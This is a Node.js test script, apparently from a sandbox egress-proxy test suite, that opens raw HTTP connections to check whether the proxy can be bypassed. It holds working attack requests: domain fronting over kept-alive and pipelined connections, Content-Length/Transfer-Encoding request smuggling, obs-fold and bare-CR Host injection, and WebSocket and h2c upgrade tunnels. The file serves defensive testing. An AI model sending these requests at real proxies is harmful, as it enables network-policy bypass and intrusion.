'use strict';
// HOSTILE (do not run outside the sandbox): after a first request the proxy allowed, send
// more on the same plain-HTTP connection for another host (domain fronting over a kept-alive
// or pipelined connection), or heads the proxy must not pass on as they are (ambiguous body
// length that smuggles a request inside another, obs-fold, a bare CR).
// Input: { allowed, other, timeout_ms }: `allowed` a name the job may reach, `other` another
// name served by the same upstream. Each case is one connection to the allowed name's
// address, whose steps are written one at a time, each after the answers to the one before.
// The "keep_alive_ok" case is the control: three requests for the allowed name. The upgrade
// cases: a WebSocket upgrade (101) for the allowed name, whose tunnel then carries bytes both
// ways (the upstream echoes them as `ECHO:<bytes>`), and one for the other name on a
// connection kept alive after an allowed request. An upgrade to h2c for the allowed name,
// first on its connection and after an allowed request: after a 101 the proxy judges no
// further request, and HTTP/2 requests name any host (the upstream answers any upgrade 101).
// Output: { address, cases: [{ id, statuses, refusals, servers, closed, echoed, error }] }.
const dns = require('node:dns');
const net = require('node:net');
const { readInput, refusals, servers, code, out } = require('./lib.js');

function get(host, path, extra = '') {
  return `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${extra}\r\n`;
}

function upgrade(host, path) {
  return get(host, path, 'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n');
}

// Writes each step once the answers to the earlier ones have come (or a short wait passed),
// then reads until the peer closes or the time is up.
function h2c(host, path) {
  return get(host, path, 'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n');
}

function conversation(host, steps, expected, timeoutMs) {
  return new Promise((resolve) => {
    let text = '';
    let closed = false;
    let error = null;
    let done = false;
    const socket = net.connect({ host, port: 80 });
    socket.setEncoding('latin1');
    const statuses = () => [...text.matchAll(/HTTP\/1\.[01] (\d{3}) /g)].map((m) => Number(m[1]));
    const finish = () => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      socket.destroy();
      const echoed = text.includes('ECHO:through-the-tunnel');
      resolve({ statuses: statuses(), refusals: refusals(text), servers: servers(text), closed, echoed, error });
    };
    const timer = setTimeout(finish, timeoutMs);
    socket.on('data', (c) => { if (text.length < 65536) text += c; });
    socket.on('close', () => { closed = true; finish(); });
    socket.on('error', (e) => { error = code(e); });
    socket.on('connect', async () => {
      for (let i = 0; i < steps.length && !closed; i++) {
        socket.write(steps[i]);
        const want = expected[i];
        const started = Date.now();
        while (!closed && statuses().length < want && Date.now() - started < 1000) {
          await new Promise((r) => setTimeout(r, 10));
        }
      }
      // Whatever else comes (a late refusal, the close).
      await new Promise((r) => setTimeout(r, 300));
      finish();
    });
  });
}

(async () => {
  const input = await readInput();
  const { allowed, other } = input;
  const timeoutMs = input.timeout_ms ?? 4000;
  const address = (await dns.promises.lookup(allowed, { family: 4 })).address;
  const smuggled = get(other, '/smuggled');
  const chunkedPost = (host) => `POST /front HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${5 + smuggled.length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`;
  const cases = {
    keep_alive_ok: [[get(allowed, '/ka1'), get(allowed, '/ka2'), get(allowed, '/ka3')], [1, 2, 3]],
    keep_alive_other: [[get(allowed, '/first'), get(other, '/fronted')], [1, 2]],
    keep_alive_lan: [[get(allowed, '/first'), get('lan.upstream.net', '/fronted-lan')], [1, 2]],
    keep_alive_no_host: [[get(allowed, '/first'), 'GET /fronted-nohost HTTP/1.1\r\n\r\n'], [1, 2]],
    keep_alive_absolute: [[get(allowed, '/first'), `GET http://${other}/fronted-absolute HTTP/1.1\r\nHost: ${allowed}\r\n\r\n`], [1, 2]],
    pipelined_other: [[get(allowed, '/pipe1') + get(other, '/fronted-pipelined')], [2]],
    smuggle_first: [[chunkedPost(allowed)], [1]],
    smuggle_second: [[get(allowed, '/first'), chunkedPost(allowed)], [1, 2]],
    obs_fold_second: [[get(allowed, '/first'), `GET /folded HTTP/1.1\r\nHost: ${allowed}\r\nX-A: 1\r\n Host: ${other}\r\n\r\n`], [1, 2]],
    upgrade_ok: [[upgrade(allowed, '/ws'), 'through-the-tunnel'], [1, 1]],
    upgrade_other: [[get(allowed, '/first'), upgrade(other, '/ws-fronted')], [1, 2]],
    upgrade_h2c_first: [[h2c(allowed, '/h2c')], [1]],
    upgrade_h2c_second: [[get(allowed, '/first'), h2c(allowed, '/h2c-later')], [1, 2]],
    bare_cr_second: [[get(allowed, '/first'), `GET /bare-cr HTTP/1.1\r\nHost: ${allowed}\rHost: ${other}\r\n\r\n`], [1, 2]],
  };
  const results = await Promise.all(Object.entries(cases).map(async ([id, [steps, expected]]) => ({
    id, ...(await conversation(address, steps, expected, timeoutMs)),
  })));
  out({ address, cases: results });
})().catch((e) => out({ crashed: String(e) }));
